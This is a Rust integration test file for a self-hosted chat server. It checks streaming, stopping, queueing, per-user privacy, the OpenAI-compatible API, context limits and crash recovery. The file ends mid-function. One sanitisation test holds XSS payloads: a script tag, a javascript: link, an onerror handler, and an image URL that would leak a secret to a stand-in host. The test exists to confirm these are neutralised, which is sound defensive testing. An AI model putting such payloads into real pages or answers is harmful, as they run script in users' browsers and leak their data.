//! Chat: streaming, Stop, dropped connections, the queue, privacy between
//! users, the OpenAI wire format, long conversations, and safe rendering of
//! answers. They run with the real default model when HEARTH_TEST_MODEL
//! names it (the README's test command does), and with the scripted engine
//! (`Engine::fake`) otherwise; the one test that needs a `hearth serve`
//! process with llama.cpp says it was skipped.

use std::time::Duration;

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

use crate::common::*;

async fn api_for(owner: &Client, server: &TestServer) -> ApiClient {
    ApiClient::new(&server.base, &owner.api_key("chat tests").await)
}

async fn new_conversation(api: &ApiClient) -> i64 {
    let response = api
        .request(Method::POST, "/api/v1/conversations")
        .json(&json!({}))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::CREATED);
    response.json::<Value>().await.unwrap()["id"]
        .as_i64()
        .unwrap()
}

async fn stream_message(api: &ApiClient, conversation: i64, content: &str) -> EventReader {
    let response = api
        .request(
            Method::POST,
            &format!("/api/v1/conversations/{conversation}/messages"),
        )
        .json(&json!({ "content": content, "stream": true }))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    assert!(
        response.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/event-stream")
    );
    EventReader::new(response)
}

#[tokio::test]
async fn answers_stream_token_by_token_and_are_stored() {
    let (server, owner) = TestServer::with_model(|_| {}).await;
    let api = api_for(&owner, &server).await;
    let id = new_conversation(&api).await;
    let events = stream_message(
        &api,
        id,
        "What is the capital of France? Answer in one sentence.",
    )
    .await
    .all()
    .await;
    let names: Vec<&str> = events.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(names.first(), Some(&"started"), "{names:?}");
    assert_eq!(names.last(), Some(&"done"), "{names:?}");
    let tokens: Vec<String> = events
        .iter()
        .filter(|(n, _)| n == "token")
        .map(|(_, d)| {
            serde_json::from_str::<Value>(d).unwrap()["text"]
                .as_str()
                .unwrap()
                .to_string()
        })
        .collect();
    assert!(
        tokens.len() >= 2,
        "several token events, not one blob: {tokens:?}"
    );
    let text: String = tokens.concat();
    assert!(
        text.chars().any(char::is_alphabetic),
        "coherent enough to contain words: {text:?}"
    );

    let (_, conversation) = api.get_json(&format!("/api/v1/conversations/{id}")).await;
    let messages = conversation["messages"].as_array().unwrap();
    assert_eq!(messages.len(), 2);
    assert_eq!(messages[1]["role"], "assistant");
    assert_eq!(messages[1]["content"].as_str().unwrap(), text);
    assert_eq!(
        messages[1]["source"],
        "local:SmolLM2-135M-Instruct.Q4_1.gguf"
    );
    assert!(messages[1]["completion_tokens"].as_i64().unwrap() >= 1);

    // The page shows it, rendered, with where it came from.
    let (status, html) = owner.page(&format!("/chat/{id}")).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(select_all_text(&html, "#messages .message").len(), 2);
    assert!(select_text(&html, ".from-assistant .meta .source").starts_with("Local model"));
}

#[tokio::test]
async fn the_chat_page_streams_and_works_without_javascript() {
    let (server, owner) = TestServer::with_model(|_| {}).await;
    // The page's script asks for a stream from the form post.
    let token = owner.csrf().await;
    let response = owner
        .http
        .post(owner.url("/chat/new"))
        .header("accept", "text/event-stream")
        .header("x-csrf-token", &token)
        .form(&[("content", "Hello! Who are you?")])
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let events = EventReader::new(response).all().await;
    assert_eq!(events[0].0, "conversation");
    let url = serde_json::from_str::<Value>(&events[0].1).unwrap()["url"]
        .as_str()
        .unwrap()
        .to_string();
    let done = events
        .iter()
        .find(|(n, _)| n == "done")
        .expect("done event");
    let done: Value = serde_json::from_str(&done.1).unwrap();
    assert!(done["html"].as_str().unwrap().starts_with('<'));
    assert!(
        events
            .iter()
            .any(|(n, d)| n == "token" && d.contains("\"html\":\"")),
        "the page gets rendered HTML while streaming"
    );

    // A plain form post waits for the answer, then shows the page.
    let response = owner
        .post_form(
            &format!("{url}/messages"),
            &[("content", "Thank you. Say goodbye.")],
        )
        .await;
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    assert!(location(&response).starts_with(&format!("{url}#message-")));
    let (_, html) = owner.page(&url).await;
    assert_eq!(select_all_text(&html, "#messages .message").len(), 4);

    // Empty and oversized messages are refused with the text kept.
    let long = "a".repeat(hearth::chat::MAX_MESSAGE_CHARS + 1);
    let response = owner
        .post_form(&format!("{url}/messages"), &[("content", &long)])
        .await;
    assert_eq!(response.status(), StatusCode::BAD_REQUEST);
    let html = scraper::Html::parse_document(&response.text().await.unwrap());
    assert!(select_text(&html, "#chat-error").contains("the limit is 32000"));
    assert_eq!(select_text(&html, "#content").len(), long.len());
    let response = owner
        .post_form(&format!("{url}/messages"), &[("content", "   ")])
        .await;
    assert_eq!(response.status(), StatusCode::BAD_REQUEST);
    let _ = server;
}

#[tokio::test]
async fn stop_ends_the_answer_and_keeps_what_was_written() {
    let (server, owner) = TestServer::with_model(|_| {}).await;
    let api = api_for(&owner, &server).await;
    let id = new_conversation(&api).await;
    let mut events = stream_message(
        &api,
        id,
        "Write a very long story about a lighthouse keeper, with many chapters.",
    )
    .await;
    let mut tokens = 0;
    while let Some((name, _)) = events.next().await {
        if name == "token" {
            tokens += 1;
            if tokens == 3 {
                let response = api
                    .request(Method::POST, &format!("/api/v1/conversations/{id}/stop"))
                    .send()
                    .await
                    .unwrap();
                assert_eq!(response.status(), StatusCode::NO_CONTENT);
            }
        }
        if name == "done" {
            break;
        }
    }
    let (_, conversation) = api.get_json(&format!("/api/v1/conversations/{id}")).await;
    let answer = &conversation["messages"][1];
    assert_eq!(answer["status"], "stopped");
    let completion = answer["completion_tokens"].as_i64().unwrap();
    assert!(
        (3..60).contains(&completion),
        "stopped within a few steps: {completion}"
    );
    // The slot is free again (after the automatic title, which also uses it).
    let idle = tokio::time::timeout(Duration::from_secs(20), async {
        while server.state.chat.engine.status().active > 0 {
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    })
    .await;
    assert!(idle.is_ok(), "the slot was freed");
}

/// Issue 12: leaving the page (or dropping an API stream) used to stop the
/// answer. Now only Stop does: the queued answer behind it waits until Stop.
#[tokio::test]
async fn a_dropped_connection_keeps_answering_and_only_stop_frees_the_slot() {
    let (server, owner) = TestServer::with_model(|c| {
        c.llm.parallel = 1;
        c.llm.max_queue = 1;
    })
    .await;
    let api = api_for(&owner, &server).await;
    let (a, b, c) = (
        new_conversation(&api).await,
        new_conversation(&api).await,
        new_conversation(&api).await,
    );
    let long = "Write a very long story about a lighthouse keeper, with many chapters.";

    let mut first = stream_message(&api, a, long).await;
    loop {
        let (name, _) = first.next().await.expect("first answer starts");
        if name == "token" {
            break;
        }
    }
    // The second waits behind the first and says so.
    let mut second = stream_message(&api, b, "Say hello.").await;
    let (name, data) = second.next().await.unwrap();
    assert_eq!((name.as_str(), data.as_str()), ("queued", "{\"ahead\":0}"));

    // The queue is full now: a third is refused at once with Retry-After.
    let response = api
        .request(Method::POST, &format!("/api/v1/conversations/{c}/messages"))
        .json(&json!({ "content": "Hi", "stream": true }))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::SERVICE_UNAVAILABLE);
    assert_eq!(response.headers()["retry-after"], "5");
    let body: Value = response.json().await.unwrap();
    assert_eq!(body["error"]["code"], "unavailable");
    assert!(body["error"]["message"].as_str().unwrap().contains("busy"));

    // Dropping the first connection does not stop its answer: it is still
    // being written (and saved) a while later, and the second still waits.
    drop(first);
    tokio::time::sleep(Duration::from_millis(700)).await;
    let (_, conversation) = api.get_json(&format!("/api/v1/conversations/{a}")).await;
    assert_eq!(conversation["messages"][1]["status"], "writing");
    assert!(
        server
            .state
            .chat
            .running
            .is_answering(hearth::store::ConversationId(a))
    );

    // Stop frees the slot: the second starts and finishes.
    let response = api
        .request(Method::POST, &format!("/api/v1/conversations/{a}/stop"))
        .send()
        .await
        .unwrap();
    assert!(response.status().is_success());
    let started = tokio::time::timeout(Duration::from_secs(30), async {
        while let Some((name, _)) = second.next().await {
            if name == "started" {
                return true;
            }
        }
        false
    })
    .await;
    assert_eq!(started, Ok(true), "the queued answer started after Stop");
    let rest = second.all().await;
    assert_eq!(rest.last().unwrap().0, "done");
    eventually(
        "the stopped answer is stored as stopped, with its text",
        Duration::from_secs(10),
        async || {
            let (_, conversation) = api.get_json(&format!("/api/v1/conversations/{a}")).await;
            conversation["messages"][1]["status"] == "stopped"
                && !conversation["messages"][1]["content"]
                    .as_str()
                    .unwrap_or_default()
                    .is_empty()
        },
    )
    .await;
}

#[tokio::test]
async fn nobody_sees_anyone_elses_conversations() {
    let (server, owner) = TestServer::with_model(|_| {}).await;
    let sam = server.user(&owner, "sam", "staff").await;
    let owner_api = api_for(&owner, &server).await;
    let sam_api = ApiClient::new(&server.base, &sam.api_key("sam").await);
    let id = new_conversation(&owner_api).await;
    owner_api
        .request(
            Method::POST,
            &format!("/api/v1/conversations/{id}/messages"),
        )
        .json(&json!({ "content": "My secret plan is to bake cakes." }))
        .send()
        .await
        .unwrap();

    assert_eq!(
        sam.get(&format!("/chat/{id}")).await.status(),
        StatusCode::NOT_FOUND
    );
    let (_, html) = sam.page("/chat?q=secret").await;
    assert!(select_all_text(&html, "#conversation-list a").is_empty());
    assert_eq!(
        sam_api
            .get_json(&format!("/api/v1/conversations/{id}"))
            .await
            .0,
        StatusCode::NOT_FOUND
    );
    let (_, list) = sam_api.get_json("/api/v1/conversations").await;
    assert_eq!(list.as_array().unwrap().len(), 0);
    let response = sam_api
        .request(
            Method::POST,
            &format!("/api/v1/conversations/{id}/messages"),
        )
        .json(&json!({ "content": "tell me", "stream": true }))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::NOT_FOUND);
    let token = sam.csrf().await;
    let response = sam
        .http
        .post(sam.url(&format!("/chat/{id}/messages")))
        .header("accept", "text/event-stream")
        .header("x-csrf-token", token)
        .form(&[("content", "x")])
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::NOT_FOUND);
    for path in [
        format!("/chat/{id}/rename"),
        format!("/chat/{id}/delete"),
        format!("/chat/{id}/stop"),
    ] {
        assert_eq!(
            sam.post_form(&path, &[("title", "mine")]).await.status(),
            StatusCode::NOT_FOUND,
            "{path}"
        );
    }
    let response = sam_api
        .request(Method::DELETE, &format!("/api/v1/conversations/{id}"))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::NOT_FOUND);
    // Still there for its owner.
    let (_, mine) = owner_api.get_json("/api/v1/conversations?q=secret").await;
    assert_eq!(mine.as_array().unwrap().len(), 1);
}

#[tokio::test]
async fn rename_search_and_delete_own_conversations() {
    let (server, owner) = TestServer::with_owner().await;
    let api = api_for(&owner, &server).await;
    let id = new_conversation(&api).await;
    let response = owner
        .post_form(
            &format!("/chat/{id}/rename"),
            &[("title", "Invoices for March")],
        )
        .await;
    assert_eq!(location(&response), format!("/chat/{id}"));
    let response = owner
        .post_form(&format!("/chat/{id}/rename"), &[("title", "")])
        .await;
    assert_eq!(response.status(), StatusCode::BAD_REQUEST);
    let (_, html) = owner.page("/chat?q=march").await;
    assert_eq!(
        select_all_text(&html, "#conversation-list a"),
        ["Invoices for March"]
    );
    let (_, html) = owner.page("/chat?q=nothing-like-this").await;
    assert!(select_text(&html, ".chat-sidebar .muted").contains("Nothing matches"));
    let response = owner.post_form(&format!("/chat/{id}/delete"), &[]).await;
    assert_eq!(location(&response), "/chat");
    assert_eq!(
        owner.get(&format!("/chat/{id}")).await.status(),
        StatusCode::NOT_FOUND
    );
}

#[tokio::test]
async fn answers_are_sanitised_markdown() {
    let (server, owner) = TestServer::with_owner().await;
    let api = api_for(&owner, &server).await;
    let id = new_conversation(&api).await;
    let hostile = "# Result\n\n<script>alert(1)</script>\n\n[click](javascript:alert(1)) and ![x](https://evil.example/leak?q=secret)\n\n<img src=x onerror=alert(1)> **bold** `code`";
    let store = &server.state.store;
    let draft = store
        .begin_answer(hearth::store::UserId(1), hearth::store::ConversationId(id))
        .await
        .unwrap();
    store
        .finish_answer(
            draft.id,
            hearth::store::NewAnswer {
                content: hostile.into(),
                status: hearth::store::MessageStatus::Done,
                source: hearth::store::AnswerSource::Local {
                    model: "test".into(),
                },
                prompt_tokens: 1,
                completion_tokens: 1,
                tokens_per_second: None,
                dropped_messages: 0,
            },
        )
        .await
        .unwrap();
    let response = owner.get(&format!("/chat/{id}")).await;
    let body = response.text().await.unwrap();
    let html = scraper::Html::parse_document(&body);
    let answer = html
        .select(&scraper::Selector::parse(".from-assistant .bubble").unwrap())
        .next()
        .unwrap()
        .inner_html();
    assert!(!answer.contains("<script"), "{answer}");
    let fragment = scraper::Html::parse_fragment(&answer);
    for attack in ["[onerror]", "img", "script", "a[href^=javascript]"] {
        assert!(
            fragment
                .select(&scraper::Selector::parse(attack).unwrap())
                .next()
                .is_none(),
            "{attack} in {answer}"
        );
    }
    assert!(
        answer.contains("<h1>")
            && answer.contains("<strong>bold</strong>")
            && answer.contains("<code>code</code>"),
        "{answer}"
    );
    assert!(
        answer.contains("&lt;script&gt;"),
        "raw HTML is shown as text: {answer}"
    );
}

#[tokio::test]
async fn long_conversations_leave_out_the_oldest_turns_visibly() {
    let (server, owner) = TestServer::with_model(|c| c.llm.context_per_chat = 512).await;
    let api = api_for(&owner, &server).await;
    let id = new_conversation(&api).await;
    let filler = "Please remember this long note about the office's opening hours, parking, and the coffee machine. ".repeat(8);
    let mut dropped = 0;
    for turn in 0..4 {
        let response = api
            .request(
                Method::POST,
                &format!("/api/v1/conversations/{id}/messages"),
            )
            .json(&json!({ "content": format!("Note {turn}: {filler}") }))
            .send()
            .await
            .unwrap();
        assert_eq!(
            response.status(),
            StatusCode::OK,
            "turn {turn} still answered"
        );
        let answer: Value = response.json().await.unwrap();
        assert_ne!(answer["status"], "failed");
        dropped = answer["dropped_messages"].as_i64().unwrap();
    }
    assert!(dropped > 0, "the oldest turns were left out");
    let (_, html) = owner.page(&format!("/chat/{id}")).await;
    assert!(select_text(&html, "#messages .marker").contains("Earlier messages were left out"));

    // A single message longer than the whole context is refused clearly.
    let huge = "word ".repeat(3000);
    let response = api
        .request(
            Method::POST,
            &format!("/api/v1/conversations/{id}/messages"),
        )
        .json(&json!({ "content": huge }))
        .send()
        .await
        .unwrap();
    let status = response.status();
    let answer: Value = response.json().await.unwrap();
    assert_eq!(status, StatusCode::OK);
    assert_eq!(answer["status"], "failed", "{answer}");
}

#[tokio::test]
async fn a_missing_model_is_reported_and_the_rest_keeps_working() {
    let server = TestServer::start_with(|c| c.llm.model = "/nonexistent/model.gguf".into()).await;
    let owner = server.client();
    owner.setup(&server.setup_code(), "olivia").await;
    server
        .state
        .chat
        .engine
        .wait_until_settled(Duration::from_secs(10))
        .await;
    let (status, html) = owner.page("/chat").await;
    assert_eq!(status, StatusCode::OK);
    assert!(select_text(&html, "#unavailable").contains("does not exist"));
    let response = owner.post_form("/chat/new", &[("content", "hello")]).await;
    assert_eq!(response.status(), StatusCode::SERVICE_UNAVAILABLE);
    let html = scraper::Html::parse_document(&response.text().await.unwrap());
    assert!(select_text(&html, "#chat-error").contains("unavailable"));
    let api = api_for(&owner, &server).await;
    let response = api
        .request(Method::POST, "/v1/chat/completions")
        .json(&json!({"model": "x", "messages": [{"role": "user", "content": "hi"}]}))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::SERVICE_UNAVAILABLE);
    let (_, models) = api.get_json("/v1/models").await;
    assert_eq!(models["data"].as_array().unwrap().len(), 0);
    assert_eq!(owner.get("/admin/users").await.status(), StatusCode::OK);

    // Not a GGUF file at all.
    let junk = server.data_dir.path().join("models/junk.gguf");
    std::fs::write(&junk, b"<html>not a model</html>").unwrap();
    let mut config = server.state.chat.engine.config();
    config.model_path = junk;
    server.state.chat.engine.reconfigure(config);
    // The engine had already failed on the first model: wait for a state
    // that names the new one and is no longer loading.
    eventually(
        "the engine settles on the new model",
        Duration::from_secs(20),
        async || {
            matches!(
                server.state.chat.engine.state(),
                hearth::llm::EngineState::Failed { ref model, .. }
                    | hearth::llm::EngineState::Ready { ref model }
                    if model == "junk.gguf"
            )
        },
    )
    .await;
    let state = server.state.chat.engine.state();
    assert!(
        matches!(&state, hearth::llm::EngineState::Failed { error, .. } if error.contains("not a GGUF")),
        "{state:?}"
    );
}

fn assert_chunk_shape(chunk: &Value, id: &str) {
    assert_eq!(chunk["object"], "chat.completion.chunk");
    assert_eq!(chunk["id"], id);
    assert!(chunk["created"].is_i64());
    assert!(chunk["model"].is_string());
    assert!(chunk["choices"].is_array());
}

#[tokio::test]
async fn openai_api_matches_the_wire_format() {
    let (server, owner) = TestServer::with_model(|_| {}).await;
    let api = api_for(&owner, &server).await;

    let (status, models) = api.get_json("/v1/models").await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(models["object"], "list");
    assert_eq!(models["data"][0]["object"], "model");
    assert_eq!(models["data"][0]["id"], "SmolLM2-135M-Instruct.Q4_1.gguf");
    assert_eq!(models["data"][0]["owned_by"], "hearth");

    let body = json!({
        "model": "SmolLM2-135M-Instruct.Q4_1.gguf",
        "messages": [
            {"role": "system", "content": "You are terse."},
            {"role": "user", "content": [{"type": "text", "text": "Name a color."}]}
        ],
        "max_tokens": 16, "temperature": 0, "seed": 7
    });
    let response = api
        .request(Method::POST, "/v1/chat/completions")
        .json(&body)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let completion: Value = response.json().await.unwrap();
    assert!(completion["id"].as_str().unwrap().starts_with("chatcmpl-"));
    assert_eq!(completion["object"], "chat.completion");
    assert!(completion["created"].as_i64().unwrap() > 1_700_000_000);
    assert_eq!(completion["model"], "SmolLM2-135M-Instruct.Q4_1.gguf");
    let choice = &completion["choices"][0];
    assert_eq!(choice["index"], 0);
    assert_eq!(choice["message"]["role"], "assistant");
    assert!(!choice["message"]["content"].as_str().unwrap().is_empty());
    assert!(["stop", "length"].contains(&choice["finish_reason"].as_str().unwrap()));
    let usage = &completion["usage"];
    assert_eq!(
        usage["total_tokens"].as_i64().unwrap(),
        usage["prompt_tokens"].as_i64().unwrap() + usage["completion_tokens"].as_i64().unwrap()
    );
    assert!(usage["completion_tokens"].as_i64().unwrap() <= 16);

    let mut streaming = body.clone();
    streaming["stream"] = json!(true);
    streaming["stream_options"] = json!({"include_usage": true});
    let response = api
        .request(Method::POST, "/v1/chat/completions")
        .json(&streaming)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    assert!(
        response.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/event-stream")
    );
    let events = EventReader::new(response).all().await;
    assert_eq!(events.last().unwrap().1, "[DONE]");
    let chunks: Vec<Value> = events[..events.len() - 1]
        .iter()
        .map(|(_, d)| serde_json::from_str(d).unwrap())
        .collect();
    let id = chunks[0]["id"].as_str().unwrap().to_string();
    for chunk in &chunks {
        assert_chunk_shape(chunk, &id);
    }
    assert_eq!(chunks[0]["choices"][0]["delta"]["role"], "assistant");
    let finish = chunks
        .iter()
        .filter(|c| c["choices"][0]["finish_reason"].is_string())
        .count();
    assert_eq!(finish, 1, "exactly one chunk carries finish_reason");
    let last = chunks.last().unwrap();
    assert_eq!(
        last["choices"].as_array().unwrap().len(),
        0,
        "the usage chunk has no choices"
    );
    assert!(last["usage"]["completion_tokens"].as_i64().unwrap() >= 1);
    let content: String = chunks
        .iter()
        .filter_map(|c| c["choices"][0]["delta"]["content"].as_str())
        .collect();
    assert!(!content.is_empty());

    // Bad requests get OpenAI-style errors.
    let model = "SmolLM2-135M-Instruct.Q4_1.gguf";
    for (bad, fragment) in [
        (json!({"model": model, "messages": []}), "must not be empty"),
        (
            json!({"model": model, "messages": [{"role": "tool", "content": "x"}]}),
            "not supported",
        ),
        (
            json!({"model": model, "messages": [{"role": "user", "content": "x"}], "n": 2}),
            "n = 1",
        ),
        (
            json!({"model": model, "messages": [{"role": "user", "content": "x"}], "temperature": 5}),
            "temperature",
        ),
        // Issue 9: a limit past the context is refused, naming the limit.
        (
            json!({"model": model, "messages": [{"role": "user", "content": "x"}], "max_tokens": 1_000_000_000}),
            "between 1 and 2048",
        ),
    ] {
        let response = api
            .request(Method::POST, "/v1/chat/completions")
            .json(&bad)
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::BAD_REQUEST, "{bad}");
        let error: Value = response.json().await.unwrap();
        assert_eq!(error["error"]["type"], "invalid_request_error");
        assert!(
            error["error"]["message"]
                .as_str()
                .unwrap()
                .to_lowercase()
                .contains(fragment),
            "{error}"
        );
    }
}

/// Issue 9: an unknown model name was answered by the loaded model.
#[tokio::test]
async fn an_unknown_model_is_not_found() {
    let (server, owner) = TestServer::with_model(|_| {}).await;
    let api = api_for(&owner, &server).await;
    let response = api
        .request(Method::POST, "/v1/chat/completions")
        .json(&json!({"model": "gpt-4o", "messages": [{"role": "user", "content": "hi"}]}))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::NOT_FOUND);
    let error: Value = response.json().await.unwrap();
    assert_eq!(error["error"]["code"], "model_not_found");
    assert_eq!(error["error"]["type"], "invalid_request_error");
    assert!(
        error["error"]["message"]
            .as_str()
            .unwrap()
            .contains("gpt-4o")
    );
    // The file name without .gguf names the model too.
    let response = api
        .request(Method::POST, "/v1/chat/completions")
        .json(
            &json!({"model": "smollm2-135m-instruct.q4_1", "max_tokens": 2,
            "messages": [{"role": "user", "content": "hi"}]}),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
}

#[tokio::test]
async fn the_openai_api_needs_a_valid_key() {
    let (server, owner) = TestServer::with_owner().await;
    let key = owner.api_key("tool").await;
    let http = reqwest::Client::new();
    let url = format!("{}/v1/chat/completions", server.base);
    let body = json!({"model": "x", "messages": [{"role": "user", "content": "hi"}]});
    let missing = http.post(&url).json(&body).send().await.unwrap();
    assert_eq!(missing.status(), StatusCode::UNAUTHORIZED);
    let wrong = http
        .post(&url)
        .bearer_auth("hth_not-a-key")
        .json(&body)
        .send()
        .await
        .unwrap();
    assert_eq!(wrong.status(), StatusCode::UNAUTHORIZED);
    let error: Value = wrong.json().await.unwrap();
    assert_eq!(error["error"]["type"], "authentication_error");
    let models = http
        .get(format!("{}/v1/models", server.base))
        .send()
        .await
        .unwrap();
    assert_eq!(models.status(), StatusCode::UNAUTHORIZED);
    let id = owner
        .http
        .get(owner.url("/api/v1/me/api-keys"))
        .send()
        .await
        .unwrap()
        .json::<Value>()
        .await
        .unwrap()[0]["id"]
        .as_i64()
        .unwrap();
    owner
        .post_form(&format!("/profile/api-keys/{id}/revoke"), &[])
        .await;
    let revoked = http
        .get(format!("{}/v1/models", server.base))
        .bearer_auth(&key)
        .send()
        .await
        .unwrap();
    assert_eq!(revoked.status(), StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn follow_up_turns_reuse_the_cached_prefix() {
    let engine = test_engine(hearth::llm::EngineConfig {
        model_path: "SmolLM2-135M-Instruct.Q4_1.gguf".into(),
        fallback_model: None,
        threads: 2,
        parallel: 2,
        context_per_chat: 1024,
        batch: 512,
        max_queue: 4,
        max_wait: std::time::Duration::from_secs(30),
    });
    engine.wait_until_settled(Duration::from_secs(60)).await;
    use hearth::llm::{Event, Message, Request, Role, Sampling};
    let sampling = Sampling {
        temperature: 0.0,
        max_tokens: 24,
        ..Sampling::default()
    };
    let mut messages = vec![
        Message::new(
            Role::System,
            "You are a helpful assistant for a dental office.",
        ),
        Message::new(Role::User, "What should I bring to my first appointment?"),
    ];
    async fn run(engine: &hearth::llm::Engine, request: Request) -> (usize, usize, String) {
        let mut generation = engine.generate(request).unwrap();
        let (mut prompt, mut reused, mut text) = (0, 0, String::new());
        while let Some(event) = generation.events.recv().await {
            match event {
                Event::Started {
                    prompt_tokens,
                    reused_tokens,
                    ..
                } => (prompt, reused) = (prompt_tokens, reused_tokens),
                Event::Text(t) => text.push_str(&t),
                Event::Finished(_) => break,
                Event::Failed(e) => panic!("{e}"),
                Event::Queued { .. } => {}
            }
        }
        (prompt, reused, text)
    }
    let (first_prompt, first_reused, answer) = run(
        &engine,
        Request {
            messages: messages.clone(),
            sampling: sampling.clone(),
            grammar: None,
        },
    )
    .await;
    assert_eq!(first_reused, 0);
    messages.push(Message::new(Role::Assistant, answer));
    messages.push(Message::new(Role::User, "And how early should I arrive?"));
    let (second_prompt, second_reused, _) = run(
        &engine,
        Request {
            messages,
            sampling,
            grammar: None,
        },
    )
    .await;
    assert!(second_prompt > first_prompt);
    assert!(
        second_reused >= first_prompt - 1,
        "the follow-up reused the first turn: {second_reused} of {second_prompt}"
    );
    engine.shutdown();
}

#[tokio::test]
async fn the_official_openai_python_client_works_unchanged() {
    let (server, owner) = TestServer::with_model(|_| {}).await;
    let python_path = std::env::var("HEARTH_PYTHON_DIR").unwrap_or_else(|_| {
        format!(
            "{}/.cache/hearth/python",
            std::env::var("HOME").unwrap_or_default()
        )
    });
    let has_client = std::process::Command::new("python3")
        .env("PYTHONPATH", &python_path)
        .args(["-c", "import openai"])
        .status()
        .is_ok_and(|s| s.success());
    if !has_client {
        skipped("the openai Python package is not installed (bash .ci/deps installs it)");
        return;
    }
    let key = owner.api_key("python").await;
    let script = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/clients/openai_client.py"
    );
    let base = format!("{}/v1", server.base);
    let output = tokio::process::Command::new("python3")
        .env("PYTHONPATH", &python_path)
        .args([script, &base, &key])
        .output()
        .await
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        output.status.success(),
        "{stdout}\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(stdout.trim_end().ends_with("ok"), "{stdout}");
}

/// Issue 9: without `stream` (and from the form without JavaScript) the
/// answer was stored as "stopped" after one token, because dropping the
/// progress channel read as "the client left".
#[tokio::test]
async fn a_client_that_waits_gets_the_whole_answer() {
    let (server, owner) = TestServer::with_model(|_| {}).await;
    let api = api_for(&owner, &server).await;
    let id = new_conversation(&api).await;
    let response = api
        .request(
            Method::POST,
            &format!("/api/v1/conversations/{id}/messages"),
        )
        .json(&json!({ "content": "Name three colours of the rainbow, one per line." }))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let answer: Value = response.json().await.unwrap();
    assert!(
        ["done", "length"].contains(&answer["status"].as_str().unwrap()),
        "{answer}"
    );
    assert!(
        answer["completion_tokens"].as_i64().unwrap() > 2,
        "{answer}"
    );

    // The form without JavaScript waits for the whole answer too.
    let response = owner
        .post_form(
            &format!("/chat/{id}/messages"),
            &[("content", "And three more, please.")],
        )
        .await;
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    let (_, conversation) = api.get_json(&format!("/api/v1/conversations/{id}")).await;
    let last = &conversation["messages"][3];
    assert_eq!(last["role"], "assistant");
    assert!(
        ["done", "length"].contains(&last["status"].as_str().unwrap()),
        "{last}"
    );
    assert!(last["completion_tokens"].as_i64().unwrap() > 2, "{last}");
}

/// Issue 9: a message of only NUL characters was stored as an empty message.
#[tokio::test]
async fn messages_without_visible_text_are_refused() {
    let (server, owner) = TestServer::with_owner().await;
    let api = api_for(&owner, &server).await;
    let id = new_conversation(&api).await;
    for content in ["\0\0\0", " \u{7}\u{1b} \t", ""] {
        let response = api
            .request(
                Method::POST,
                &format!("/api/v1/conversations/{id}/messages"),
            )
            .json(&json!({ "content": content }))
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::BAD_REQUEST, "{content:?}");
    }
    let (_, conversation) = api.get_json(&format!("/api/v1/conversations/{id}")).await;
    assert_eq!(conversation["messages"].as_array().unwrap().len(), 0);
}

/// Issue 9: after kill -9 during a streamed answer the question stayed with
/// no answer and the streamed text was gone. It is saved as it streams and
/// marked "interrupted" at the next start.
#[tokio::test]
async fn a_crash_mid_answer_keeps_what_was_streamed() {
    let Some(model) =
        test_model("a `hearth serve` process runs llama.cpp, never the scripted engine")
    else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let key = ChildServer::prepare(
        dir.path(),
        &format!(
            "[llm]\nmodel = {:?}\nthreads = 2\n",
            model.to_string_lossy()
        ),
    );
    let mut server = ChildServer::start(dir.path()).await;
    let api = ApiClient::new(&server.base, &key);
    // The model loads in the background; wait until it answers.
    let mut ready = false;
    for _ in 0..600 {
        let (_, models) = api.get_json("/v1/models").await;
        if models["data"].as_array().is_some_and(|d| !d.is_empty()) {
            ready = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(ready, "the model loaded: {}", server.log());
    let id = new_conversation(&api).await;
    let mut events = stream_message(
        &api,
        id,
        "Write a very long story about a lighthouse keeper, with many chapters.",
    )
    .await;
    let started = std::time::Instant::now();
    let mut streamed = String::new();
    while let Some((name, data)) = events.next().await {
        if name == "token" {
            let data: Value = serde_json::from_str(&data).unwrap();
            streamed.push_str(data["text"].as_str().unwrap());
        }
        // Past one draft save (every second) with some text: pull the plug.
        if streamed.len() > 40 && started.elapsed() > Duration::from_millis(2500) {
            break;
        }
        assert_ne!(name, "done", "the answer ended before the crash");
    }
    server.kill();
    drop(events);

    let server = ChildServer::start(dir.path()).await;
    let api = ApiClient::new(&server.base, &key);
    let (status, conversation) = api.get_json(&format!("/api/v1/conversations/{id}")).await;
    assert_eq!(status, StatusCode::OK);
    let answer = &conversation["messages"][1];
    assert_eq!(answer["status"], "interrupted", "{conversation}");
    let kept = answer["content"].as_str().unwrap();
    assert!(!kept.is_empty(), "the streamed text is kept");
    assert!(streamed.starts_with(kept), "{kept:?} is what was streamed");
}

/// Issue 9: under load, requests the queue had accepted still timed out at
/// the client. A request that waits past `llm.max_wait_secs` is told the
/// assistant is busy instead.
#[tokio::test]
async fn a_request_that_waits_too_long_is_told_early() {
